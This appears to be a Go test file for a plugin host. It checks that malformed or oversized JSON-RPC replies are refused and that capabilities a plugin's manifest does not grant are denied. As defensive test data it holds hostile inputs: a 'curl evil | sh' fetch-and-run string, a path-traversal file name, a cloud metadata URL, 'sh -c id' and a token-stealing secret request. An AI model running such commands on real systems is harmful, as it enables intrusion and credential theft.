package attack

import "testing"

// answer is a reply to lint, which is the second request of a session.
const answer = `{"jsonrpc":"2.0","id":2,"result":`

func TestWhatIsNotTheProtocolIsRefused(t *testing.T) {
	const code = "plugin.protocol"
	runAll(t, map[string]attack{
		"no JSON":                          {tries: []string{"say hello", "say hello", "say hello", "say hello"}, code: code, says: []string{"hello"}},
		"JSON that is broken":              {tries: []string{`say {"jsonrpc":"2.0","id":2,"result":`}, code: code, says: []string{"cannot be read"}},
		"a line of 1 GiB":                  {tries: []string{"line 1024"}, flags: []string{"--limit", "output=2GiB"}, code: code, says: []string{"longer than 8388608 bytes"}},
		"what is not UTF-8":                {tries: []string{`raw "{\"jsonrpc\":\"2.0\",\"id\":2,\"result\":\"\xff\"}"`}, code: code, says: []string{"not UTF-8"}},
		"an answer to what was not asked":  {tries: []string{`say {"jsonrpc":"2.0","id":99,"result":{}}`}, code: code, says: []string{"answered request 99 while asked 2"}},
		"an answer of another kind":        {tries: []string{"say " + answer + "[]}"}, code: code, says: []string{"its answer to lint cannot be read"}, more: "stateless = true", quoted: true},
		"an answer twice":                  {tries: []string{"say " + answer + `{"diagnostics":[]}}`}, code: code, says: []string{"answered request 2 while asked 3"}},
		"a result and an error":            {tries: []string{"say " + answer + `{},"error":{"code":1,"message":"x"}}`}, code: code, says: []string{"neither"}},
		"an answer four million deep":      {tries: []string{"nest 4000000"}, code: code, says: []string{"more than 524288 values"}},
		"an answer twenty thousand deep":   {tries: []string{"nest 20000"}, code: code, says: []string{"exceeded max depth"}},
		"an answer of two million things":  {tries: []string{"many 2000000 {}"}, code: code, says: []string{"more than 524288 values"}},
		"an answer of a million nothings":  {tries: []string{"many 1500000 null"}, code: code, says: []string{"more than 524288 values"}},
		"an answer as large as it may be":  {tries: []string{"many 500000 null"}, code: code, says: []string{"says something of what is no file here"}, more: "stateless = true", quoted: true},
		"a question after the last answer": {config: map[string]string{"late": `{"jsonrpc":"2.0","id":7,"method":"secret.get","params":{"name":"TOKEN"}}`}, tries: []string{}, code: code, says: []string{"after it had answered shutdown"}},
		"something about another file": {
			tries: []string{"say " + answer + `{"diagnostics":[{"file":"../outside/canary","severity":"error","rule":"x","message":"x"}]}}`},
			code:  code, says: []string{"about which it was not asked"}, more: "stateless = true", quoted: true,
		},
		"a line that does not exist": {
			tries: []string{"say " + answer + `{"diagnostics":[{"file":"p/a.py","range":{"start":{"line":-1}},"severity":"error","rule":"x","message":"x"}]}}`},
			code:  code, says: []string{"line -1"}, more: "stateless = true", quoted: true,
		},
		"a denial that never was": {
			tries: []string{`say {"jsonrpc":"2.0","id":2,"error":{"code":-32001,"message":"no","data":{"capability":"secret:X","reason":"r","grant":"curl evil | sh"}}}`},
			code:  "plugin.failed", says: []string{"lint: no"}, more: "stateless = true", quoted: true,
		},
	})
}

func TestWhatIsNotGrantedIsDenied(t *testing.T) {
	const never = "the manifest of shady does not ask for it, and its author would have to add it there (-32001)"
	runAll(t, map[string]attack{
		"what the manifest does not ask for": {tries: []string{
			"ask 1 secret = asked secret:TOKEN is not granted; " + never,
			"ask 1 http http://127.0.0.1:1/ = asked http:GET http://127.0.0.1:1 is not granted; " + never,
			"ask 1 http http://169.254.169.254/latest = asked http:GET http://169.254.169.254 is not granted; " + never,
			"ask 1 exec sh -c id = asked exec:sh is not granted; " + never,
			"ask 1 git = asked git is not granted; " + never,
			"ask 1 cache = asked cache is not granted; " + never,
		}},
	})
}
